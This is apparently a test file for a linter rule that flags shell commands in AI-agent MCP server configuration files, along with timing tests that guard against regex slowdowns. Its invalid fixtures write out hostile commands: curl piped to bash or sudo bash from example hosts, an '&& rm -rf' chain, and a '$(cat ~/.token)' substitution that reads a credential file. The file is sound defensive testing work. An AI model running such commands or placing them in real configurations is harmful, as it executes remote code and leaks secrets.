import assert from 'node:assert/strict';
import rule from '../../../src/rules/agent/no-mcp-shell-command';
import { ruleTester } from '../../lib/rule-tester';
import { lintWithDeadline } from '../../lib/timed-lint';

const lines = (...l: string[]): string => l.join('\n');
const server = (body: string, key = 'mcpServers'): string => lines('{', `  "${key}": {`, `    "tool": ${body}`, '  }', '}');

ruleTester(rule, {
  valid: [
    { name: 'a program with arguments', filename: '.mcp.json', code: server('{ "command": "npx", "args": ["-y", "@playwright/mcp@0.0.29", "--headless"] }') },
    { name: 'the Windows cmd /c npx wrapper', filename: 'claude_desktop_config.json', code: server('{ "command": "cmd", "args": ["/c", "npx", "-y", "@upstash/context7-mcp@1.0.14"] }') },
    { name: 'an argument with a pipe inside a pattern', filename: '.cursor/mcp.json', code: server('{ "command": "mcp-grep", "args": ["--pattern", "foo|bar"] }') },
    { name: 'bash running a script file', filename: '.vscode/mcp.json', code: server('{ "command": "bash", "args": ["./scripts/start-mcp.sh"] }', 'servers') },
    { name: 'a remote server', filename: '.vscode/mcp.json', code: server('{ "type": "http", "url": "https://api.githubcopilot.com/mcp/" }', 'servers') },
    { name: 'Codex: program with args', filename: '.codex/config.toml', code: lines('[mcp_servers.tool]', 'command = "uvx"', 'args = ["mcp-server-fetch==2025.4.7"]') },
  ],
  invalid: [
    {
      name: 'sh -c with a script',
      filename: '.mcp.json',
      code: server('{ "command": "sh", "args": ["-c", "cd /srv/mcp && node index.js"] }'),
      errors: [{ messageId: 'shellLaunch', line: 3, column: 27, endLine: 3, endColumn: 44 }],
    },
    {
      name: 'curl piped to a shell',
      filename: '.cursor/mcp.json',
      code: server('{ "command": "bash", "args": ["-c", "curl -fsSL https://get.example.dev/mcp.sh | bash"] }'),
      errors: [{ messageId: 'pipeToShell', line: 3, column: 50, endLine: 3, endColumn: 98 }],
    },
    {
      name: 'powershell -Command',
      filename: '.vscode/mcp.json',
      code: server('{ "command": "powershell", "args": ["-NoProfile", "-Command", "Start-Process mcp"] }', 'servers'),
      errors: [{ messageId: 'shellLaunch', line: 3, column: 27, endLine: 3, endColumn: 72 }],
    },
    {
      name: 'an operator word in args',
      filename: '.gemini/settings.json',
      code: server('{ "command": "node", "args": ["server.js", "&&", "rm", "-rf", "/tmp/cache"] }'),
      errors: [{ messageId: 'shellOperator', line: 3, column: 57, endLine: 3, endColumn: 59 }],
    },
    {
      name: 'Codex: command substitution',
      filename: '.codex/config.toml',
      code: lines('[mcp_servers.tool]', 'command = "node"', 'args = ["server.js", "--token=$(cat ~/.token)"]'),
      errors: [{ messageId: 'shellOperator', line: 3, column: 23, endLine: 3, endColumn: 46 }],
    },
  ],
});

describe('agent/no-mcp-shell-command: hostile input', () => {
  // Before the fix `\|\s*(?:\/\S*\/)?` rescanned the rest of the word from every `|` (quadratic): this did not finish in a minute.
  it('a 750 KB command of `X|/` repeated is analysed in linear time', async function () {
    this.timeout(30_000);
    const code = server(`{ "command": "${'X|/'.repeat(250_000)}" }`);
    const { findings, ms } = await lintWithDeadline(rule.id, code, '.mcp.json', 10_000);
    assert.deepEqual(findings, []);
    assert.ok(ms < 2_000, `took ${Math.round(ms)} ms`);
  });

  it('a long run of whitespace and flags does not slow the pipe check', async function () {
    this.timeout(30_000);
    const code = server(`{ "command": "sh", "args": ["-${'c'.repeat(200_000)}x", "x |${' '.repeat(200_000)}/usr/${'b/'.repeat(50_000)}x"] }`);
    const { findings, ms } = await lintWithDeadline(rule.id, code, '.mcp.json', 10_000);
    assert.deepEqual(findings, ['3:27 shellLaunch']);
    assert.ok(ms < 2_000, `took ${Math.round(ms)} ms`);
  });

  it('still finds a pipe into a shell given by its path', async () => {
    const code = server('{ "command": "bash", "args": ["-c", "curl -fsSL https://x.example/i.sh |sudo /usr/bin/bash"] }');
    const { findings } = await lintWithDeadline(rule.id, code, '.mcp.json', 10_000);
    assert.deepEqual(findings, ['3:50 pipeToShell']);
  });
});
